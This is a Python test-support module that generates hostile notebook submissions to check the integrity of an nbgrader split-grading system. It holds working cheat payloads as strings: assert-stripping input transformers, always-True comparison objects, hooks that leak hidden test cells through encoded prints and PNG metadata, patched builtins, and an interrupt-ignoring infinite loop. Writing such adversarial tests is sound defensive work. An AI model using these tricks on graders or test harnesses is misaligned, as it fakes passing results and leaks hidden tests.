"""Hostile submissions for split grading (issue #19), built from the real exercises' release.

Every attack leaves every answer wrong (each answer the exercise asks for is defined, so no test
fails for a missing name, but as a cheat or a wrong value) and adds its trick at the top of the
first answer cell (so the notebook's integrity stays ``clean``, as in the issue's reports).
"""

from __future__ import annotations

import ast
import json

import nbformat
from nbgrader.utils import is_solution

# (a) Turn every cell that holds an ``assert`` into ``pass``, before IPython compiles it.
TRANSFORMER = '''
def _no_tests(lines):
    return ["pass\\n"] if any("assert" in line for line in lines) else lines
get_ipython().input_transformers_post.append(_no_tests)
'''

# (b) Objects that say yes to every comparison, and subclasses of str, int, float, list, dict and
# DataFrame whose comparisons always say True.
ALWAYS_TRUE = '''
import pandas as _pd


class _Yes:
    def _yes(self, *args, **kwargs):
        return True
    __eq__ = __ne__ = __lt__ = __le__ = __gt__ = __ge__ = __contains__ = _yes
    def __bool__(self):
        return True
    def __hash__(self):
        return 0
    def __len__(self):
        return 8
    def __iter__(self):
        return iter([])
    def __getattr__(self, name):
        return _Yes()
    def __getitem__(self, key):
        return _Yes()
    def __call__(self, *args, **kwargs):
        return _Yes()
    def __abs__(self):
        return 0
    __sub__ = __rsub__ = __add__ = __radd__ = __truediv__ = __mul__ = __call__


def _eq_true(self, other):
    return True


class _YesStr(str):
    __eq__ = __ne__ = __lt__ = __gt__ = __le__ = __ge__ = _eq_true
    __hash__ = str.__hash__


class _YesInt(int):
    __eq__ = __ne__ = __lt__ = __gt__ = __le__ = __ge__ = _eq_true
    __hash__ = int.__hash__


class _YesFloat(float):
    __eq__ = __ne__ = __lt__ = __gt__ = __le__ = __ge__ = _eq_true
    __hash__ = float.__hash__


class _YesList(list):
    __eq__ = __ne__ = __lt__ = __gt__ = __le__ = __ge__ = __contains__ = _eq_true


class _YesDict(dict):
    __eq__ = __ne__ = _eq_true
    def __getitem__(self, key):
        return _YesStr("I")


class _YesFrame(_pd.DataFrame):
    __eq__ = __ne__ = __lt__ = __gt__ = __le__ = __ge__ = _eq_true
    def equals(self, other):
        return True


_CHEATS = [_Yes(), _YesStr("W-000000000000"), _YesInt(0), _YesFloat(0.5), _YesList(),
           _YesDict(), _YesFrame({"a": [1]})]
_next_cheat = iter(_CHEATS * 20)
'''

# (c) Print every later cell's source, encoded five ways, and draw it into a PNG (with the text
# in the PNG's metadata too); also print In[-1] after each cell.
LEAK = '''
import base64 as _b64
import codecs as _codecs
import io as _io


def _encodings(text):
    for line in text.splitlines():
        yield _b64.b64encode(line.encode()).decode()
        yield _codecs.encode(line, "rot13")
        yield line[::-1]
        yield "\\u200b".join(line)
        yield line


def _leak(info):
    text = info.raw_cell
    print("\\n".join(_encodings(text)))
    import matplotlib
    matplotlib.use("Agg")
    import matplotlib.pyplot as plt
    from IPython.display import Image, display
    fig = plt.figure(figsize=(4, 1))
    fig.text(0, 0.5, text[:200], fontsize=4)
    buf = _io.BytesIO()
    fig.savefig(buf, format="png", metadata={"Description": text})
    plt.close(fig)
    display(Image(buf.getvalue()))


def _after(result):
    print("\\n".join(_encodings(get_ipython().user_ns["In"][-1])))


get_ipython().events.register("pre_run_cell", _leak)
get_ipython().events.register("post_run_cell", _after)
'''

# (d) Variants: a trace function and an atexit hook that keep every code object they see;
# builtins patched to always agree; values too large to send, calls that never return (and
# ignore interrupts), generators and open files as answers.
VARIANTS = '''
import atexit as _atexit
import builtins as _builtins
import signal as _signal
import sys as _sys

_seen = []


def _trace(frame, event, arg):
    _seen.append(frame.f_code.co_filename)
    return None


_sys.settrace(_trace)
_atexit.register(lambda: print("seen:", _seen[-50:]))
_builtins.sorted = lambda obj, **kw: list(obj)
_builtins.abs = lambda x: 0
_builtins.round = lambda x, *n: 0
_builtins.AssertionError = type("AssertionError", (Warning,), {})


def _huge():
    return "x" * 150_000_000


def _forever():
    _signal.signal(_signal.SIGINT, _signal.SIG_IGN)
    while True:
        pass


def _generator():
    yield from range(3)


def _open_file():
    return open(__file__ if "__file__" in globals() else "/dev/null")


_BAD = [_huge, _generator, _open_file, lambda: _seen]
_next_cheat = iter(_BAD * 20)
'''

ATTACKS = {"transformer": TRANSFORMER, "always-true": ALWAYS_TRUE, "leak": LEAK,
           "variants": VARIANTS}


def answer_names(source_nb) -> list[tuple[str, bool]]:
    """(name, is a function) for each name the source's answer cells bind at the top level."""
    out = []
    for cell in source_nb.cells:
        if cell.cell_type != "code" or not is_solution(cell):
            continue
        for node in ast.parse(cell.source).body:
            if isinstance(node, ast.FunctionDef):
                out.append((node.name, True))
            elif isinstance(node, ast.Assign):
                out += [(t.id, False) for t in node.targets if isinstance(t, ast.Name)]
    seen, unique = set(), []
    for name, fn in out:
        if name not in seen:
            seen.add(name)
            unique.append((name, fn))
    return unique


def wrong_answer(kind: str, name: str, is_function: bool) -> str:
    """A wrong answer for ``name`` that tries the attack's trick."""
    if kind in ("always-true", "variants"):
        cheat = "next(_next_cheat)()" if kind == "variants" else "next(_next_cheat)"
        if kind == "variants" and name.startswith("share"):
            cheat = "_forever()"  # one function that never returns, per exercise at most
        if is_function:
            return f"def {name}(*args, **kwargs):\n    return {cheat}\n"
        return f"{name} = {cheat}\n"
    if is_function:
        return f"def {name}(*args, **kwargs):\n    return None\n"
    return f"{name} = None\n"


def attack_notebook(source_nb, release_nb, kind: str):
    """The student version with every answer wrong and the attack at the top."""
    nb = nbformat.from_dict(json.loads(json.dumps(release_nb)))
    names = answer_names(source_nb)
    first = True
    by_cell = {}
    for cell in source_nb.cells:
        if cell.cell_type == "code" and is_solution(cell):
            gid = cell.metadata["nbgrader"]["grade_id"]
            by_cell[gid] = [n for n in names if n[0] in {
                t.id for node in ast.parse(cell.source).body for t in (
                    node.targets if isinstance(node, ast.Assign) else [])
                if isinstance(t, ast.Name)} | {
                node.name for node in ast.parse(cell.source).body
                if isinstance(node, ast.FunctionDef)}]
    for cell in nb.cells:
        gid = cell.metadata.get("nbgrader", {}).get("grade_id")
        if not is_solution(cell):
            continue
        if cell.cell_type == "markdown":
            cell.source = "My answer."
            continue
        body = "".join(wrong_answer(kind, n, fn) for n, fn in by_cell.get(gid, []))
        cell.source = (ATTACKS[kind] if first else "") + "\n" + body
        first = False
    return nb
